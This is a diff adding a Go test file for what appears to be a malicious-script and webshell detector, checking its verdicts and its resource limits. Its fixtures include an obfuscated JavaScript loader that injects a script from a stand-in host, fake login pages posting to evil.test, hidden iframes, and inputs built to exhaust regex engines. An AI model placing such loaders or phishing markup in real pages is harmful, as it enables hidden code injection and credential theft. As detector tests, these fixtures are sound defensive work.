@@ -1,0 +1,76 @@
+package client
+
+import (
+	"strings"
+	"testing"
+
+	"limier/webshell"
+	"limier/webshell/webshelltest"
+)
+
+// evil is a script that hides where it loads another from.
+const evil = "\nvar s=document.createElement('script');s.src=unescape('%68%74%74%70%3a%2f%2f%65%76%69%6c%6f%6e%65%2e%74%65%73%74%2f%61%2e%6a%73');document.head.appendChild(s);"
+
+// TestSilenced puts code that is odd, and costs little, before what is hostile.
+func TestSilenced(t *testing.T) {
+	for _, before := range []string{
+		"",
+		"var a=[1,2];a.length=1e300;a.length=-1;a.length=NaN;",
+		"var a=[];a[0]=a;a=+a;",
+		"var a=[];var f=a.map;a[0]=f;a.map(f);",
+		"var a=[];a[0]=a;a.apply.apply.apply(a,a);",
+		"'a'.replace(/a/g,'$&$1$99$$$');'a'.split(/(/);",
+		"new Function;Function();new (1);`${a}`;",
+		"(0).toString(36);(NaN).toString(2);'a'.repeat(1e9);'a'.repeat(-1);String.fromCharCode(1e99,-1);",
+		"async async async(1);static(1);",
+	} {
+		j := webshell.Judge([]*webshell.Language{Language}, "x.js", []byte(before+evil))
+		if got, want := j.Verdict, webshell.Malicious; got != want {
+			t.Errorf("%s: got %q, want %q", before, got, want)
+		}
+	}
+}
+
+// TestBounded repeats what costs more than it looks.
+func TestBounded(t *testing.T) {
+	big := "eval(unescape('%61'));location;var s='aaaaaaaa';for(var i=0;i<18;i++)s+=s;"
+	list := big + "var a=[s,s];"
+	many := "eval(unescape('%61'));location;var a=[];for(var i=0;i<50000;i++)a[i]=i;"
+	texts := map[string]string{}
+	for _, s := range []string{
+		big + "for(;;)s=='x';", big + "for(;;)s[5];", big + "for(;;)s.length;", big + "for(;;)for(c of s)break;", big + "for(;;){+s}", big + "for(;;)s.match(/x/);",
+		big + "for(;;)s.split(/x/);", big + "s.replace(/[^]*/,s.replace(/./g,'$&'));", big + "s.replace(/a*/,s.replace(/a/g,'$$&'));", big + "s.replace(/" + strings.Repeat("()", 140) + "/g,'x');",
+		big + "s.match(/" + strings.Repeat(".{0,1000}", 30) + "x/);", big + "var a=[];for(;;)a.push(new RegExp(s));", big + "for(;;)document.referrer.indexOf(s);", big + "var e=document.find(s);for(;;)e.a.a.a.a.value;",
+		big + "for(;;)img.src=s;", big + "for(;;)document.write('<'+s);", big + "for(;;)atob(s.split('').join(' '));",
+		big + "for(;;)img.src='data:;base64,'+s;",
+		list + "for(;;)a=='x';", list + "for(;;)a+'x';", list + "var b=[];for(;;)b.push(new Blob(a));", list + "for(;;)x.setAttribute(a,1);", list + "for(;;)({}).hasOwnProperty(a);", list + "for(;;)decodeURI(a);", list + "for(;;)'x'.replace('y',a);",
+		list + "for(var i=0;i<2000;i++)a.push(s);Function.apply(null,a);for(;;)a.indexOf(s+'x');",
+		many + "for(;;)for(x in a)break;", many + "for(;;)a.find(x=>1);", many + "for(;;)a.forEach(1);", many + "for(;;)Math.max.apply(null,a);", many + "for(;;)a.map(parseInt);",
+		many + "var f=a.apply;for(;;)f=f.apply;", many + "var f=a.push;for(var i=0;i<90000;i++)f=f.apply;var b=[1];b[1]=b;f.apply(null,b);", many + "function F(){}for(var i=0;i<50000;i++)F.prototype['k'+i]=1;var b=[];for(;;)b.push(new F);", many + "var o={};for(var i=0;i<50000;i++)o['k'+i]=1;var b=[];for(;;)b.push({...o});",
+		many + "for(var i=0;;i++)/a{90}b/.test('a'+i);", many + "for(var i=0;;i++)new RegExp('a{900}'+i).test('a');",
+		many + "for(;;){continue;" + strings.Repeat("a;", 150000) + "}", many + "for(;;){continue;" + strings.Repeat("function f(){}", 20000) + "}", many + "for(;;)'" + strings.Repeat("a", 300000) + "'.length;",
+		"eval(unescape('%61'));location;`" + strings.Repeat("${a}", 90000) + "`",
+		strings.Repeat("async ", 60000) + "eval(unescape('%61'));location;",
+		"for(var i=0;;i++){location='http://abcd'+i+'.com/';eval(unescape('%61'))}//" + strings.Repeat(" a", 5<<20),
+	} {
+		texts[s[:min(len(s), 300)]] = s
+	}
+	webshelltest.Bounded(t, Language, "x.js", texts)
+	pages := map[string]string{}
+	for _, atom := range []string{"<!-- >", "<? >", "<script ", "<style ", "</style><style>", "<a <"} {
+		pages["boast "+atom] = "<title>hacked by me</title><body>" + strings.Repeat(atom, 60<<10/len(atom))
+	}
+	logon := "<title>outlook</title><input type=password><script>"
+	for name, s := range map[string]string{
+		"forms":  logon + strings.Repeat("<form action=http://evil.test/>", 33000),
+		"server": logon + "<form action=http://a.test>viagra display:none <a href=//b.test>" + strings.Repeat("<?<a<%?><%%>", 85000),
+		"divs":   "viagra display:none <iframe src=//evil.test><a href=//b.test>" + strings.Repeat(`<div style="left:-1;top:-1;opacity:0.;height:2;width:3">`, 18000),
+		"blank":  strings.Repeat(" ", 1<<20-8000) + strings.Repeat("<iframe width=0 src=http://1.2.3.4/a>", 200),
+		"img":    strings.Repeat("<img", 4<<20),
+		"frames": strings.Repeat("<frameset rows=100%,* a><frame src=http://evil.test/>", 19000),
+		"sheets": "viagra display:none <a href=//b.test>" + strings.Repeat("<style>.a{"+strings.Repeat("b", 299)+"}</style>", 3000),
+	} {
+		pages[name] = s
+	}
+	webshelltest.Bounded(t, Language, "x.html", pages)
+}
